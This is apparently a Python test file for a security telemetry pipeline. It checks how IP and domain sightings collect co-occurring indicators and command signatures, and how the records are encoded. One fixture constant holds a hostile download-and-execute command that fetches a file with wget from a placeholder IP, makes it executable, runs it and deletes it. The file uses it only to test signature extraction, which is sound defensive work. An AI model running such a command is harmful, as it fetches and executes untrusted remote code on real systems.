"""The company of sightings is a sample that can be joined, and costs nothing where nobody asks."""

from __future__ import annotations

import json

from hypothesis import given
from hypothesis import strategies as st

from pipeline.command import signature_of
from pipeline.company import COMMAND, COMMANDS, SAMPLE, lowest
from pipeline.fold import Folds, bring_together, groups_of
from pipeline.indicator_type import INDICATOR_TYPES
from pipeline.intake import Intake
from pipeline.registry import Party
from pipeline.sight import Group, Sightings, decode_sightings, encode, records
from pipeline.slices import SLICES

indicators = st.tuples(st.sampled_from(["ip", "domain"]), st.text("abc", min_size=1, max_size=3))
commands = st.tuples(st.just(COMMAND), st.text("abc", min_size=1, max_size=2))
companions = indicators | commands
PARTY = {"s": Party("north", "CZ")}


@given(st.lists(st.lists(companions, max_size=20), max_size=5))
def test_a_sample_of_samples_is_the_sample_of_all(parts: list[list[tuple[str, str]]]) -> None:
    everything = [each for part in parts for each in part]
    joined = lowest(each for part in parts for each in lowest(part))
    assert joined == lowest(reversed(everything))
    typed = {each for each in everything if each[0] == COMMAND}
    assert [each for each in joined if each[0] == COMMAND] == sorted(typed)[:COMMANDS]
    others = set(everything) - typed
    assert len(joined) == min(SAMPLE, min(COMMANDS, len(typed)) + len(others))


def test_commands_come_first_among_companions() -> None:
    """Who looks for them need look no further."""
    assert COMMAND not in INDICATOR_TYPES
    assert min(INDICATOR_TYPES) > COMMAND


def test_what_came_with_it_does_not_crowd_out_a_command_nor_it_the_others() -> None:
    words = [("credential", f"{n}") for n in range(100)]
    typed = [(COMMAND, f"{n:03}") for n in range(100)]
    assert lowest([*words, typed[7]])[0] == typed[7]
    found = lowest([*words, *typed])
    assert found[:COMMANDS] == tuple(typed[:COMMANDS])
    assert {kind for kind, _ in found[COMMANDS:]} == {"credential"}


@given(st.lists(st.lists(indicators, min_size=1, max_size=12), max_size=6))
def test_what_was_met_is_what_the_events_named(events: list[list[tuple[str, str]]]) -> None:
    """Against the plain way: all companions of all events that name it, and the sample of them."""
    folds = {"ip": Folds(60_000 * SLICES)}  # nobody asks for domains
    for found in events:
        for kind, value in found:
            if kind == "ip":
                folds[kind].turn_to(1)[value] = 1
        if len(found) > 1:
            bring_together(found, folds)
    told = {
        value: set(companions)
        for group in groups_of("ip", folds["ip"], 3)
        for value, companions in zip(
            group.values, group.companions or [()] * len(group.values), strict=True
        )
    }
    every = {one for found in events for one in found if one[0] == "ip"}
    assert told == {
        one[1]: set(
            lowest(each for found in events if one in found for each in found if each != one)
        )
        for one in every
    }


def intake(*, company: bool) -> Intake:
    lengths = {"ip": 3_600_000, "domain": 3_600_000}
    return Intake("t/0", PARTY, PARTY, lengths, 10**9, company=company)


def event(time: int, ip: str, name: str) -> bytes:
    return json.dumps(
        {
            "time": time,
            "metadata": {"uid": "e"},
            "device": {"uid": "s"},
            "src_endpoint": {"ip": ip},
            "query": {"hostname": name},
        }
    ).encode()


EVENTS = [(1, "8.8.8.8", "a.example"), (2, "8.8.8.8", "b.example"), (3, "9.9.9.9", "a.example")]


def packed(events: list[tuple[int, str, str]], *, company: bool, partitions: int) -> list[Group]:
    at = intake(company=company)
    for time, ip, name in events:
        assert not at.read(event(time, ip, name), 10)
    return [g for each in at.pack(partitions, 0).values() for one in each for g in one.groups]


def test_each_sighting_has_its_companions() -> None:
    found = {
        value: set(companions)
        for group in packed(EVENTS, company=True, partitions=3)
        for value, companions in zip(group.values, group.companions, strict=True)
    }
    assert found == {
        "8.8.8.8": {("domain", "a.example"), ("domain", "b.example")},
        "9.9.9.9": {("domain", "a.example")},
        "a.example": {("ip", "8.8.8.8"), ("ip", "9.9.9.9")},
        "b.example": {("ip", "8.8.8.8")},
    }


TYPED = "cd /tmp; wget http://198.51.100.7/a; chmod 777 a; sh a; rm -rf a"


def test_a_command_is_a_companion_by_its_signature_and_no_more() -> None:
    for command, wanted in ((TYPED, ((COMMAND, signature_of(TYPED)),)), ("ls", ())):
        at = intake(company=True)
        body = {"src_endpoint": {"ip": "8.8.8.8"}, "process": {"cmd_line": command}}
        base = {"time": 1, "metadata": {"uid": "e"}, "device": {"uid": "s"}}
        assert not at.read(json.dumps(base | body).encode(), 10)
        (group,) = [g for each in at.pack(1, 0).values() for one in each for g in one.groups]
        assert (group.type, group.values) == ("ip", ["8.8.8.8"])
        assert (*group.companions,) == ((wanted,) if wanted else ((),))


def test_who_does_not_ask_has_none() -> None:
    assert all(not group.companions for group in packed(EVENTS, company=False, partitions=2))


def test_companions_travel() -> None:
    groups = packed(EVENTS, company=True, partitions=1)
    sightings = Sightings("t/0", "north", "CZ", 3, 0, groups)
    assert decode_sightings(None, encode(sightings)) == sightings
    alone = [Group(of.type, of.values, of.first_seen, of.last_seen) for of in groups]
    passed_over = decode_sightings(None, encode(sightings), company=False)
    assert passed_over == Sightings("t/0", "north", "CZ", 3, 0, alone)
    long = Group("ip", ["8" * 400_000, "9" * 400_000], [1, 2], [1, 2], [(("ip", "a"),), ()])
    halves = [decode_sightings(None, one) for one in records(Sightings("", "", "CZ", 3, 0, [long]))]
    told = {
        value[0]: companions
        for half in halves
        if isinstance(half, Sightings)
        for group in half.groups
        for value, companions in zip(group.values, group.companions, strict=True)
    }
    assert told == {"8": (("ip", "a"),), "9": ()}


def test_a_record_without_the_column_is_read() -> None:
    """What was written before there was one."""
    old = b"\x96\xa1t\xa1o\xa2CZ\x01\x02\x91\x94\xa2ip\x91\xa1a\x91\x01\x91\x01"
    assert decode_sightings(None, old) == Sightings(
        "t", "o", "CZ", 1, 2, [Group("ip", ["a"], [1], [1])]
    )
